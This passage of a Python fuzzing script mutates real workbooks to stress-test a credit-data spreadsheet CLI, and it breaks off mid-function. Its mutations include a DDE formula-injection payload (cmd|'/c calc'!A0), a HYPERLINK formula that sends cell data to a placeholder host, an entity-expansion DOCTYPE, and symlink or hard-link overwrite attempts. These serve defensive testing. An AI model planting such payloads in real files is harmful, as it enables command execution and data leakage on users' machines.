"""Fuzz every command with mutated real workbooks: the only outcomes allowed are exit 0/1/2 with a sentence,
the inputs unchanged, and no temporary file or folder left behind (issue 10).

    python benchmarks/fuzz.py --cases 20000 --seed 1          # the long run (README, 可靠性与安全)
    python benchmarks/fuzz.py --cases 300 --seed 7 --quick    # what tests/test_fuzz.py runs
    python benchmarks/fuzz.py --replay 1:1234                 # one case again, with its output shown
    python benchmarks/fuzz.py --memory                        # a million-row sheet under 2 GiB (slow)

Design:

- **Seeds** are real files: the examples (declarations .xlsx/.xls/.csv, summaries, catalogs, review sheets,
  outcome sheets), the templates, and outcome sheets made by ``generate_outcomes.py`` (.xlsx with shared
  strings, UTF-8 and GB18030 .csv, a legacy .xls).
- **Mutations** (:data:`MUTATIONS`) work on the bytes (flip, truncate, splice), on the zip container (drop,
  duplicate or reorder a part, lie about a size, corrupt a part's data), on the sheet XML (huge and
  non-finite numbers, far cells in any quoting, overlapping and sheet-wide merges, 10,000-column rows,
  shared-string indices that point nowhere, error values, DOCTYPE, long number IDs), on the compound file
  of a .xls (sector counts, FAT/DIFAT/directory entries, stream sizes, DIMENSIONS and cell records), on
  CSV text (Big5, huge lines and fields, NUL bytes, unpaired quotes, old Mac line ends, 10,000 columns),
  and on the command (outputs written onto an input, through a hard link or a symlink, with --force).
- **Commands**: ``validate --annotate --output``, ``outcomes check --catalog --output``, ``summary build
  -o --report`` and ``catalog build -o --report`` (the mutated file is sometimes the catalog).
- **Runs**: a worker process under a 2 GiB address-space limit (``RLIMIT_AS``) runs the commands
  in-process through Typer's test runner, many cases per worker; the driver gives each command a time
  limit, kills and restarts a worker that hangs or dies (an abort, a signal) and records the case. A
  share of the cases (``--process-share``) runs the real console command in a fresh process under the same
  limit, some with a SIGTERM at a random moment (then exit 143 is allowed too).
- **Checks** after every command: the exit status; for status 2 a sentence on stderr or an ``unreadable``
  finding, never a traceback, "内部错误" or "Exception ignored"; every input's bytes and modification time
  as before; no ``*.tmp`` in the output folder, no ``zjcredit-*`` folder of the worker left in /dev/shm or
  the temporary folder.
"""

from __future__ import annotations

import argparse
import collections
import hashlib
import json
import os
import random
import re
import select
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time
import traceback
import zipfile
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any, Callable

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
sys.path.insert(0, str(ROOT / "src"))

MEMORY_LIMIT = 2 * 1024**3
COMMAND_TIMEOUT = 60.0
ALLOWED = (0, 1, 2)
SHM = Path("/dev/shm")

# Seeds ---------------------------------------------------------------------------------------------------


def build_seeds(folder: Path) -> dict[str, list[Path]]:
    """Real files to mutate, by role: 'declaration', 'summary', 'catalog', 'review', 'outcomes', 'template'.
    Made once per folder (the generated sheets take a few seconds)."""
    folder.mkdir(parents=True, exist_ok=True)
    marker = folder / "seeds.json"
    if marker.exists():
        return {role: [folder / p for p in paths] for role, paths in json.loads(marker.read_text()).items()}
    ex = ROOT / "examples"
    roles: dict[str, list[Path]] = collections.defaultdict(list)

    def take(role: str, source: Path, name: str | None = None) -> None:
        target = folder / (name or source.name)
        shutil.copy(source, target)
        roles[role].append(target)

    for p in sorted((ex / "declarations").iterdir()):
        if p.suffix in (".xlsx", ".xls", ".csv"):
            take("summary" if "汇总" in p.name else "declaration", p)
    take("catalog", ex / "county" / "catalog-2019H1.xlsx")
    take("summary", ex / "county" / "summary.xlsx")
    take("review", ex / "county" / "review.xlsx")
    for p in sorted((ex / "outcomes").glob("*.xlsx")):
        take("catalog" if p.name.startswith("目录") else "outcomes", p)
    for p in sorted((ROOT / "templates").glob("*.xlsx")):
        take("template", p, f"template_{p.name}")
    gen = [sys.executable, str(HERE / "generate_outcomes.py"), "--seed", "11"]
    for name, extra in (("gen.xlsx", ()), ("gen_utf8.csv", ()), ("gen_gbk.csv", ("--encoding", "gb18030"))):
        subprocess.run([*gen, "--rows", "60", "-o", str(folder / name), *extra], check=True, capture_output=True)
        roles["outcomes"].append(folder / name)
    roles["catalog"].append(folder / "gen_catalog.xlsx")
    xls = _outcomes_xls(folder / "gen.xlsx", folder / "gen_legacy.xls")
    if xls is not None:
        roles["outcomes"].append(xls)
    marker.write_text(json.dumps({r: [p.name for p in ps] for r, ps in roles.items()}, ensure_ascii=False))
    return dict(roles)


def _outcomes_xls(source: Path, target: Path) -> Path | None:
    """The generated outcome sheet as a legacy .xls (xlwt, a test extra; None without it)."""
    try:
        import openpyxl
        import xlwt
    except ImportError:
        return None
    ws_in = openpyxl.load_workbook(source, read_only=True).active
    book = xlwt.Workbook()
    ws = book.add_sheet("成果")
    for r, row in enumerate(ws_in.iter_rows(values_only=True)):
        for c, v in enumerate(row):
            if v is not None:
                ws.write(r, c, v if isinstance(v, (int, float, str)) else str(v))
    book.save(str(target))
    return target


# Mutations -----------------------------------------------------------------------------------------------

Mutation = Callable[[random.Random, bytes, str], bytes]


def m_flip(rng: random.Random, data: bytes, suffix: str) -> bytes:
    out = bytearray(data)
    for _ in range(rng.choice((1, 2, 4, 16, 64))):
        out[rng.randrange(len(out))] = rng.randrange(256)
    return bytes(out)


def m_truncate(rng: random.Random, data: bytes, suffix: str) -> bytes:
    cut = rng.choice((rng.randrange(len(data)), 512, 1536, 4096, 5532, len(data) - 1, len(data) // 2))
    return data[: max(0, min(cut, len(data) - 1))]


def m_splice(rng: random.Random, data: bytes, suffix: str) -> bytes:
    """A slice of the file copied over another place, or repeated."""
    a, b = sorted(rng.randrange(len(data)) for _ in range(2))
    piece = data[a : b + 1][:65536]
    at = rng.randrange(len(data))
    return data[:at] + piece * rng.choice((1, 2, 50)) + data[at + (len(piece) if rng.random() < 0.5 else 0) :]


def _zip_parts(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]] | None:
    import io

    try:
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            return [(i, zf.read(i)) for i in zf.infolist()]
    except Exception:  # noqa: BLE001 - not a zip (any more): the byte mutations apply instead
        return None


def _rezip(parts: list[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
    import io
    import warnings

    warnings.filterwarnings("ignore", "Duplicate name", UserWarning)  # duplicated parts are the point
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, body in parts:  # each part keeps its own time: the same case gives the same bytes
            zf.writestr(zipfile.ZipInfo(info.filename, date_time=info.date_time), body, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def m_zip(rng: random.Random, data: bytes, suffix: str) -> bytes:
    """Drop, duplicate or reorder parts; lie about a part's size; corrupt a part's compressed data."""
    parts = _zip_parts(data)
    if not parts:
        return m_flip(rng, data, suffix)
    how = rng.choice(("drop", "duplicate", "reorder", "size", "corrupt"))
    k = rng.randrange(len(parts))
    if how == "drop":
        del parts[k]
    elif how == "duplicate":
        parts.insert(rng.randrange(len(parts) + 1), (parts[k][0], parts[rng.randrange(len(parts))][1]))
    elif how == "reorder":
        rng.shuffle(parts)
    out = _rezip(parts)
    if how in ("size", "corrupt"):
        out = bytearray(out)
        at = out.find(b"PK\x03\x04", rng.randrange(max(1, len(out) // 2)))
        at = at if at >= 0 else 0
        if how == "size":
            struct.pack_into("<I", out, at + 22, rng.choice((0, 1, 0x7FFFFFFF, 0xFFFFFFFF, rng.randrange(1 << 32))))
        else:
            for _ in range(8):
                j = min(len(out) - 1, at + 30 + rng.randrange(200))
                out[j] ^= 0xFF
        out = bytes(out)
    return out


SHEET_EDITS: list[tuple[str, Callable[[random.Random, bytes], bytes]]] = []


def sheet_edit(name: str) -> Callable[[Callable[[random.Random, bytes], bytes]], Callable[[random.Random, bytes], bytes]]:
    def register(fn: Callable[[random.Random, bytes], bytes]) -> Callable[[random.Random, bytes], bytes]:
        SHEET_EDITS.append((name, fn))
        return fn

    return register


def _some_cell(rng: random.Random, xml: bytes) -> re.Match[bytes] | None:
    cells = list(re.finditer(rb"<c r=\"([A-Z]+)(\d+)\"([^>]*?)(/>|>(.*?)</c>)", xml[:2_000_000], re.S))
    return rng.choice(cells) if cells else None


def _replace_cell(xml: bytes, m: re.Match[bytes], new: bytes) -> bytes:
    return xml[: m.start()] + new + xml[m.end() :]


@sheet_edit("number")
def e_number(rng: random.Random, xml: bytes) -> bytes:
    m = _some_cell(rng, xml)
    if m is None:
        return xml
    value = rng.choice((b"1e308", b"-1e308", b"1e309", b"NaN", b"inf", b"-inf", b"-0", b"1E+300", b"330106199001011234", b"3.30106199001011E+17", b"1e-320", b"99999999999999999999"))
    return _replace_cell(xml, m, b'<c r="' + m.group(1) + m.group(2) + b'"><v>' + value + b"</v></c>")


@sheet_edit("far-cell")
def e_far(rng: random.Random, xml: bytes) -> bytes:
    ref = rng.choice((b"XFD1048576", b"A1048576", b"XFD1", b"ZZZZ99999999", b"AAA500000"))
    quote = rng.choice((b'r="%s"', b"r='%s'", b'r = "%s"', b"r\t=\t'%s'"))
    return xml.replace(b"</sheetData>", b'<row r="1048576"><c ' + quote % ref + b"><v>1</v></c></row></sheetData>", 1)


@sheet_edit("merges")
def e_merges(rng: random.Random, xml: bytes) -> bytes:
    ranges = rng.choice((b'<mergeCell ref="A1:XFD1048576"/>', b'<mergeCell ref="A1:C3"/><mergeCell ref="B2:D4"/>' * rng.choice((1, 500)), b'<mergeCell ref="A1:A1"/>', b'<mergeCell ref="B5:A1"/>'))
    if b"<mergeCells" in xml:
        return re.sub(rb"<mergeCells[^>]*>", lambda m: m.group(0) + ranges, xml, count=1)
    return xml.replace(b"</sheetData>", b"</sheetData><mergeCells>" + ranges + b"</mergeCells>", 1)


@sheet_edit("wide-row")
def e_wide(rng: random.Random, xml: bytes) -> bytes:
    row = b"".join(b"<c><v>%d</v></c>" % i for i in range(rng.choice((10_000, 16_385))))
    return xml.replace(b"</sheetData>", b'<row r="7">' + row + b"</row></sheetData>", 1)


@sheet_edit("string-index")
def e_string_index(rng: random.Random, xml: bytes) -> bytes:
    cells = list(re.finditer(rb'(<c r="[A-Z]+\d+"[^>]*t="s"[^>]*>)<v>\d+</v>', xml[:2_000_000]))
    if not cells:
        return xml
    m = rng.choice(cells)
    value = rng.choice((b"-1", b"1.5", b"abc", b"", b"99999999", b"4294967296", b"99999999999999999999", b" 1"))
    return xml[: m.start()] + m.group(1) + b"<v>" + value + b"</v>" + xml[m.end() :]


@sheet_edit("error-value")
def e_error(rng: random.Random, xml: bytes) -> bytes:
    m = _some_cell(rng, xml)
    if m is None:
        return xml
    err = rng.choice((b"#DIV/0!", b"#N/A", b"#REF!", b"#VALUE!", b"#NAME?"))
    quote = rng.choice((b'"', b"'"))
    return _replace_cell(xml, m, b'<c r="' + m.group(1) + m.group(2) + b'" t=' + quote + b"e" + quote + b"><f>1/0</f><v>" + err + b"</v></c>")


@sheet_edit("doctype")
def e_doctype(rng: random.Random, xml: bytes) -> bytes:
    dtd = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return re.sub(rb"(<\?xml[^>]*\?>)", lambda m: m.group(1) + dtd, xml, count=1)


@sheet_edit("long-id")
def e_long_id(rng: random.Random, xml: bytes) -> bytes:
    m = _some_cell(rng, xml)
    if m is None:
        return xml
    digits = str(rng.randrange(10**15, 10**19)).encode()
    value = rng.choice((digits, b"%.14E" % float(digits)))
    return _replace_cell(xml, m, b'<c r="' + m.group(1) + m.group(2) + b'"><v>' + value + b"</v></c>")


@sheet_edit("formula")
def e_formula(rng: random.Random, xml: bytes) -> bytes:
    m = _some_cell(rng, xml)
    if m is None:
        return xml
    f = rng.choice((b"cmd|'/c calc'!A0", b'HYPERLINK("http://x.invalid/?"&amp;C7)', b"1/0", b"[1]Sheet1!A1"))
    return _replace_cell(xml, m, b'<c r="' + m.group(1) + m.group(2) + b'" t="str"><f>' + f + b"</f><v></v></c>")


def m_xml(rng: random.Random, data: bytes, suffix: str) -> bytes:
    """One edit of a worksheet's XML (or of the shared strings), the package zipped again."""
    parts = _zip_parts(data)
    if not parts:
        return m_flip(rng, data, suffix)
    sheets = [i for i, (info, _) in enumerate(parts) if "worksheets/" in info.filename]
    if not sheets:
        return data
    k = rng.choice(sheets)
    name, edit = rng.choice(SHEET_EDITS)
    info, body = parts[k]
    parts[k] = (info, edit(rng, body))
    return _rezip(parts)


def m_cfb(rng: random.Random, data: bytes, suffix: str) -> bytes:
    """A legacy .xls: corrupt the compound file's header counts, its tables or its directory entries, or
    the workbook's BIFF records (DIMENSIONS, cell positions)."""
    if not data.startswith(b"\xd0\xcf\x11\xe0"):
        return m_flip(rng, data, suffix)
    out = bytearray(data)
    values = (0, 1, 0xFF, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFC, 0xFFFFFFFA, 0x00800000, rng.randrange(1 << 32))
    how = rng.choice(("header", "difat", "fat", "directory", "biff"))
    if how == "header":
        struct.pack_into("<I", out, rng.choice((40, 44, 48, 56, 60, 64, 68, 72)), rng.choice(values))
        if rng.random() < 0.2:
            struct.pack_into("<HH", out, 26, rng.choice((3, 4)), 0xFFFE)
            struct.pack_into("<H", out, 30, rng.choice((9, 12, 16)))
    elif how == "difat":
        struct.pack_into("<I", out, 76 + 4 * rng.randrange(109), rng.choice(values))
    elif how in ("fat", "directory"):
        ss = 512
        sector = rng.randrange(max(1, (len(out) - ss) // ss))
        base = (sector + 1) * ss
        offset = base + (rng.randrange(ss // 4) * 4 if how == "fat" else rng.randrange(ss // 128) * 128 + rng.choice((116, 120, 124, 66)))
        if offset + 4 <= len(out):
            struct.pack_into("<I", out, offset, rng.choice(values))
    else:
        kinds = {0x0200: (0, 4, 8, 10), 0x00FD: (0, 2), 0x0203: (0, 2), 0x027E: (0, 2), 0x00BD: (0, 2), 0x00FC: (0, 4, 8), 0x0809: (0, 2)}
        hits = [(m.start(), kind) for kind in kinds for m in re.finditer(re.escape(struct.pack("<H", kind)), bytes(out))]
        if hits:
            at, kind = rng.choice(hits)
            field_at = at + 4 + rng.choice(kinds[kind])
            wide = kind in (0x0200, 0x00FC) and rng.random() < 0.5
            if field_at + 4 <= len(out):
                struct.pack_into("<I" if wide else "<H", out, field_at, rng.choice(values) & (0xFFFFFFFF if wide else 0xFFFF))
    return bytes(out)


def _decoded(data: bytes) -> tuple[str, str]:
    for enc in ("utf-8-sig", "gb18030"):
        try:
            return data.decode(enc), enc
        except UnicodeDecodeError:
            continue
    return data.decode("latin-1"), "latin-1"


def m_csv(rng: random.Random, data: bytes, suffix: str) -> bytes:
    """CSV text: another encoding, a huge line or field, NUL bytes, an unpaired quote, old Mac line ends,
    10,000 columns, numbers at the edge, a formula-looking cell."""
    text, enc = _decoded(data)
    lines = text.splitlines(keepends=True) or [""]
    k = rng.randrange(len(lines))
    how = rng.choice(("big5", "utf16", "long-line", "long-field", "nul", "quote", "cr", "wide", "number", "formula", "bom"))
    if how == "big5":
        return text.encode("big5", "replace")
    if how == "utf16":
        return text.encode(rng.choice(("utf-16", "utf-16-le", "utf-16-be")))
    if how == "long-line":
        lines.insert(k, "x," * rng.choice((600_000, 50_000)) + "\n")
    elif how == "long-field":
        lines.insert(k, "张三,330106199001011234," + "长" * rng.choice((33_000, 400_000)) + "\n")
    elif how == "nul":
        lines[k] = lines[k][:3] + "\x00" + lines[k][3:]
    elif how == "quote":
        lines[k] = '"' + lines[k]
    elif how == "cr":
        return "".join(line.rstrip("\r\n") + "\r" for line in lines).encode("utf-8")
    elif how == "wide":
        lines.insert(k, ",".join(["1"] * rng.choice((10_000, 17_000))) + "\n")
    elif how == "number":
        cells = lines[k].split(",")
        cells[rng.randrange(len(cells))] = rng.choice(("1e308", "1e309", "NaN", "inf", "-0", "１,２００", "99999999999999999999"))
        lines[k] = ",".join(cells)
    elif how == "formula":
        lines[k] = "=cmd|'/c calc'!A0," + lines[k]
    elif how == "bom":
        return b"\xef\xbb\xbf" + data
    return "".join(lines).encode(enc if enc != "utf-8-sig" else "utf-8", "replace")


MUTATIONS: dict[str, Mutation] = {
    "flip": m_flip,
    "truncate": m_truncate,
    "splice": m_splice,
    "zip": m_zip,
    "xml": m_xml,
    "cfb": m_cfb,
    "csv": m_csv,
}
# Which mutations suit which file: the format's own first, the generic ones for all.
BY_SUFFIX = {".xlsx": ("zip", "xml", "xml", "xml", "flip", "truncate", "splice"), ".xls": ("cfb", "cfb", "cfb", "flip", "truncate", "splice"), ".csv": ("csv", "csv", "csv", "flip", "truncate")}


def mutate(rng: random.Random, data: bytes, suffix: str) -> tuple[str, bytes]:
    """One or two mutations fitting the file; (their names, the bytes)."""
    names = []
    for _ in range(1 if rng.random() < 0.8 else 2):
        name = rng.choice(BY_SUFFIX.get(suffix, ("flip", "truncate")))
        data = MUTATIONS[name](rng, data, suffix) if data else data
        names.append(name)
    return "+".join(names), data


# Cases ---------------------------------------------------------------------------------------------------

COMMANDS = ("validate", "outcomes", "summary", "catalog")
ROLE_WEIGHTS = {"declaration": 3, "summary": 2, "catalog": 2, "review": 1, "outcomes": 4, "template": 1}


@dataclass
class Case:
    seed: int
    index: int
    source: str = ""
    mutation: str = ""
    commands: list[str] = field(default_factory=list)
    attack: str = ""  # "", or how an output is aimed at an input: same path, hard link, symlink
    as_catalog: bool = False  # the mutated file is given as --catalog

    @property
    def id(self) -> str:
        return f"{self.seed}:{self.index}"


def make_case(seed: int, index: int, seeds: dict[str, list[Path]], folder: Path, *, every_command: bool) -> tuple[Case, list[list[str]], list[Path]]:
    """Write case ``index``'s input into ``folder`` (emptied first); (the case, each command's argv, the
    files that must stay unchanged)."""
    rng = random.Random(f"{seed}:{index}")
    roles = [r for r in ROLE_WEIGHTS if seeds.get(r)]
    role = rng.choices(roles, weights=[ROLE_WEIGHTS[r] for r in roles])[0]
    source = rng.choice(seeds[role])
    if folder.exists():
        shutil.rmtree(folder)
    out = folder / "输出"
    out.mkdir(parents=True)
    mutation, data = mutate(rng, source.read_bytes(), source.suffix.lower())
    target = folder / f"输入 {index}{source.suffix}"
    target.write_bytes(data)
    case = Case(seed, index, source.name, mutation)
    catalog = folder / "目录.xlsx"
    shutil.copy(next(p for p in seeds["catalog"] if p.name == "gen_catalog.xlsx"), catalog)
    sheet = folder / "成果.xlsx"
    shutil.copy(next(p for p in seeds["outcomes"] if p.name == "gen.xlsx"), sheet)
    review = folder / "审核.xlsx"
    shutil.copy(seeds["review"][0], review)
    case.as_catalog = role == "catalog" and rng.random() < 0.5
    if every_command:
        case.commands = list(COMMANDS)
    else:  # the suite's quick run: most cases through validate alone, every fourth through a full command
        case.commands = [COMMANDS[(index // 4) % len(COMMANDS)] if index % 4 == 0 else "check"]
    if rng.random() < 0.06:
        case.attack = rng.choice(("same", "hardlink", "symlink", "catalog"))
    argvs = [_argv(command, target, catalog, sheet, review, out, case, rng) for command in case.commands]
    return case, argvs, [target, catalog, sheet, review]


def _argv(command: str, target: Path, catalog: Path, sheet: Path, review: Path, out: Path, case: Case, rng: random.Random) -> list[str]:
    report = out / f"{command}-报告.{'csv' if command == 'outcomes' else 'json'}"  # the name says the format
    if case.attack:
        # The catalog is an input of outcomes check only; the other commands' attack is on their input.
        victim = catalog if case.attack == "catalog" and command == "outcomes" else target
        if case.attack == "hardlink":
            link = out / f"link-{command}{target.suffix}"
            os.link(victim, link)
            victim = link
        elif case.attack == "symlink":
            link = out / f"sym-{command}{target.suffix}"
            link.symlink_to(victim)
            victim = link
        report = victim
    force = ["--force"] if case.attack or rng.random() < 0.3 else []
    if command == "check":
        return ["validate", str(target), "--format", "json", "--output", str(report), *force]
    if command == "validate":
        return ["validate", str(target), "--format", "json", "--output", str(report), "--annotate", str(out / "副本"), *force]
    if command == "outcomes":
        sheet_arg, catalog_arg = (sheet, target) if case.as_catalog else (target, catalog)
        return ["outcomes", "check", str(sheet_arg), "--catalog", str(catalog_arg), "--format", "csv", "--output", str(report), *force]
    if command == "summary":
        return ["summary", "build", str(target), "-o", str(out / "汇总.xlsx"), "--include-invalid", "--report", str(report), *force]
    previous = ["--previous", str(target)] if case.as_catalog else []
    return ["catalog", "build", str(target), "--period", "2019H1", "-o", str(out / "目录输出.xlsx"), "--review", str(review), *previous, "--report", str(report), *force]


def fingerprint(path: Path) -> tuple[str, int] | None:
    try:
        return hashlib.sha1(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns
    except OSError:
        return None


# Judging one command -----------------------------------------------------------------------------------

BAD_WORDS = ("Traceback", "内部错误", "Internal error", "Exception ignored", "panicked at", "PanicException")


def judge(result: dict[str, Any], argv: list[str], before: dict[Path, Any], out: Path, scratch: list[Path], *, allowed: tuple[int, ...] = ALLOWED) -> list[str]:
    """What went wrong with one command's run (empty: nothing)."""
    problems = []
    code = result.get("code")
    text = (result.get("stdout") or "") + (result.get("stderr") or "")
    if result.get("timeout"):
        problems.append(f"no answer within {result.get('limit', COMMAND_TIMEOUT):.0f} s")
    elif result.get("died") is not None:
        problems.append(f"the process died ({result['died']})")
    elif result.get("exception"):
        problems.append(f"exception: {result['exception']}")
    elif code not in allowed:
        problems.append(f"exit status {code}")
    for word in BAD_WORDS:
        if word in text:
            problems.append(f"output holds {word!r}")
    if code == 2 and not result.get("timeout") and not (result.get("stderr") or "").strip() and "unreadable" not in text and not _report_says_unreadable(argv):
        problems.append("exit 2 without a sentence")
    for path, fp in before.items():
        if fingerprint(path) != fp:
            problems.append(f"input changed: {path.name}")
    left = [] if result.get("timeout") else [p.name for p in out.rglob("*") if p.name.endswith(".tmp")]  # a killed run may leave them
    left += [str(p) for base in scratch for p in _scratch_left(base, result.get("pid"))]
    if left:
        problems.append(f"left behind: {left[:3]}")
    return problems


def _report_says_unreadable(argv: list[str]) -> bool:
    for flag in ("--output", "--report"):
        if flag in argv:
            try:
                return "unreadable" in Path(argv[argv.index(flag) + 1]).read_text(encoding="utf-8-sig", errors="replace")
            except (OSError, IndexError):
                return False
    return False


def _scratch_left(base: Path, pid: int | None) -> list[Path]:
    """zjcredit scratch folders in ``base`` owned by ``pid`` (every one when ``base`` is private)."""
    if not base.is_dir():
        return []
    found = []
    for folder in base.glob("zjcredit-*"):
        if base != SHM:
            found.append(folder)
            continue
        try:
            if pid is not None and int((folder / "owner.pid").read_text()) == pid:
                found.append(folder)
        except (OSError, ValueError):
            continue
    return found


# Running commands: a worker under the memory limit, or a fresh process --------------------------------


def _limit_memory() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def worker_main() -> None:
    """The worker's loop: one JSON job per line on stdin ({argv, cwd}), one JSON result per line on stdout.
    Runs under the address-space limit its parent set, reserving memory as the console command does."""
    from zjcredit.entry import frugal_under_memory_limit, quiet_finalizers

    frugal_under_memory_limit()
    quiet_finalizers()
    import typer.testing
    from typer.testing import CliRunner

    from zjcredit.cli import app

    runner = CliRunner()
    built = typer.testing._get_command(app)
    typer.testing._get_command = lambda _app: built  # built once: Typer would rebuild it for every run (80 ms)
    command = app
    channel = sys.stdout
    for line in sys.stdin:
        job = json.loads(line)
        os.chdir(job["cwd"])
        result = runner.invoke(command, job["argv"])
        exc = result.exception if result.exception is not None and not isinstance(result.exception, SystemExit) else None
        trace = "".join(traceback.format_exception(*result.exc_info)[-12:]) if exc is not None and result.exc_info else ""
        answer = {"traceback": trace, "code": result.exit_code, "stdout": result.stdout[-3000:], "stderr": result.stderr[-3000:], "pid": os.getpid(), "exception": None if exc is None else f"{type(exc).__name__}: {exc}"[:300], "vm": _vm()}
        channel.write(json.dumps(answer, ensure_ascii=False) + "\n")
        channel.flush()


def _vm() -> dict[str, int]:
    """This process's resident and address-space sizes now (MiB), for the worker's recycling."""
    try:
        with open("/proc/self/status", encoding="ascii") as fh:
            st = dict(line.split(":", 1) for line in fh if ":" in line)
        return {k: int(st[k].split()[0]) // 1024 for k in ("VmRSS", "VmSize", "VmPeak")}
    except (OSError, KeyError, ValueError):
        return {}


class Worker:
    """A worker process under :data:`MEMORY_LIMIT`, restarted after it dies, hangs or has run ``recycle``
    commands (so one command's leftovers in memory never weigh on many others)."""

    # A worker whose address space has grown beyond this (MiB) is replaced before the next command.
    MAX_SIZE = 1024

    def __init__(self, work: Path, recycle: int = 100) -> None:
        self.work = work
        self.size = 0
        self.recycle = recycle
        self.proc: subprocess.Popen[str] | None = None
        self.ran = 0
        self.tmp = work / "worker-tmp"
        self.err_path = work / "worker-stderr.txt"
        self.err_path.write_bytes(b"")  # what an earlier run left is not this run's
        self.err_seen = 0

    def _start(self) -> subprocess.Popen[str]:
        self.tmp.mkdir(parents=True, exist_ok=True)
        # ZJCREDIT_DEBUG: an internal error is raised, not printed, so the failure keeps its traceback.
        env = dict(os.environ, TMPDIR=str(self.tmp), PYTHONPATH=str(ROOT / "src"), NO_COLOR="1", COLUMNS="120", ZJCREDIT_DEBUG="1")
        err = self.err_path.open("ab")
        code = f"import sys; sys.path.insert(0, {str(HERE)!r}); from fuzz import worker_main; worker_main()"
        self.proc = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=err, text=True, env=env, preexec_fn=_limit_memory, start_new_session=True)
        err.close()
        self.ran = 0
        return self.proc

    def stop(self) -> None:
        if self.proc is not None:
            try:
                os.killpg(self.proc.pid, signal.SIGKILL)
            except (ProcessLookupError, PermissionError):
                pass
            self.proc.wait()
            self.proc = None

    def run(self, argv: list[str], cwd: Path, timeout: float = COMMAND_TIMEOUT) -> dict[str, Any]:
        if self.proc is None or self.proc.poll() is not None or self.ran >= self.recycle or self.size > self.MAX_SIZE:
            self.stop()
            self._start()
        proc = self.proc
        assert proc is not None and proc.stdin is not None and proc.stdout is not None
        self.ran += 1
        try:
            proc.stdin.write(json.dumps({"argv": argv, "cwd": str(cwd)}, ensure_ascii=False) + "\n")
            proc.stdin.flush()
        except BrokenPipeError:
            pass
        ready, _, _ = select.select([proc.stdout], [], [], timeout)
        line = proc.stdout.readline() if ready else ""
        if not line:
            died = proc.poll()
            pid = proc.pid
            self.stop()
            if not ready:
                return {"timeout": True, "pid": pid, "limit": timeout}
            return {"died": _describe_exit(died), "pid": pid, "stderr": self._new_stderr()}
        answer = json.loads(line)
        answer["stderr"] = answer.get("stderr", "") + self._new_stderr()
        self.size = answer.get("vm", {}).get("VmSize", 0)
        return answer

    def _new_stderr(self) -> str:
        try:
            with self.err_path.open("rb") as fh:
                fh.seek(self.err_seen)
                data = fh.read()
        except OSError:
            return ""
        self.err_seen += len(data)
        return data.decode("utf-8", "replace")[-3000:]


def _describe_exit(code: int | None) -> str:
    if code is None:
        return "no exit status"
    if code < 0:
        try:
            return f"signal {signal.Signals(-code).name}"
        except ValueError:
            return f"signal {-code}"
    return f"exit {code}"


def run_process(argv: list[str], cwd: Path, tmp: Path, rng: random.Random, timeout: float = COMMAND_TIMEOUT, *, terminate: bool = True) -> tuple[dict[str, Any], tuple[int, ...]]:
    """The real console command in a fresh process under the memory limit; a third of them get a SIGTERM
    at a random moment (exit 143 is then allowed too)."""
    tmp.mkdir(parents=True, exist_ok=True)
    env = dict(os.environ, TMPDIR=str(tmp), PYTHONPATH=str(ROOT / "src"), NO_COLOR="1")
    env.pop("ZJCREDIT_DEBUG", None)
    proc = subprocess.Popen([sys.executable, "-m", "zjcredit", *argv], cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, preexec_fn=_limit_memory, start_new_session=True)
    allowed = ALLOWED
    terminate_at = rng.uniform(0.05, 2.5) if terminate and rng.random() < 1 / 3 else None
    try:
        if terminate_at is not None:
            try:
                proc.wait(timeout=terminate_at)
            except subprocess.TimeoutExpired:
                proc.send_signal(signal.SIGTERM)
            allowed = (*ALLOWED, 143)
        out, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        return {"timeout": True, "pid": proc.pid, "limit": timeout}, allowed
    result: dict[str, Any] = {"code": proc.returncode, "stdout": out.decode("utf-8", "replace")[-3000:], "stderr": err.decode("utf-8", "replace")[-3000:], "pid": proc.pid}
    if proc.returncode == -signal.SIGTERM and terminate_at is not None:
        result["code"] = 143  # terminated while Python itself started, before zjcredit ran: nothing to clean
    elif proc.returncode < 0:
        result["died"] = _describe_exit(proc.returncode)
    return result, allowed


# The driver --------------------------------------------------------------------------------------------


@dataclass
class Tally:
    cases: int = 0
    commands: int = 0
    by_mutation: dict[str, collections.Counter[str]] = field(default_factory=lambda: collections.defaultdict(collections.Counter))
    failures: list[dict[str, Any]] = field(default_factory=list)
    seconds: float = 0.0

    def summary(self) -> dict[str, Any]:
        return {
            "cases": self.cases,
            "commands": self.commands,
            "seconds": round(self.seconds, 1),
            "by_mutation": {k: dict(sorted(v.items())) for k, v in sorted(self.by_mutation.items())},
            "failures": self.failures,
        }


def fuzz(
    seed: int, count: int, work: Path, *, start: int = 0, every_command: bool = True, process_share: float = 0.05,
    timeout: float = COMMAND_TIMEOUT, log: Callable[[str], None] | None = None, report: Path | None = None,
) -> Tally:
    """Run cases ``start`` … ``start + count - 1`` of ``seed``; failing inputs are kept in ``work/failures``,
    the tallies written to ``report`` every 100 cases (a long run can be stopped at any time)."""
    work.mkdir(parents=True, exist_ok=True)
    seeds = build_seeds(work / "seeds")
    worker = Worker(work)
    tally = Tally()
    started = time.monotonic()
    try:
        for index in range(start, start + count):
            _one_case(seed, index, seeds, work, worker, tally, every_command, process_share, timeout)
            if (index - start + 1) % 100 == 0:
                tally.seconds = time.monotonic() - started
                if log is not None:
                    log(f"{index - start + 1} cases, {tally.commands} commands, {len(tally.failures)} failures, {tally.seconds:.0f} s")
                if report is not None:
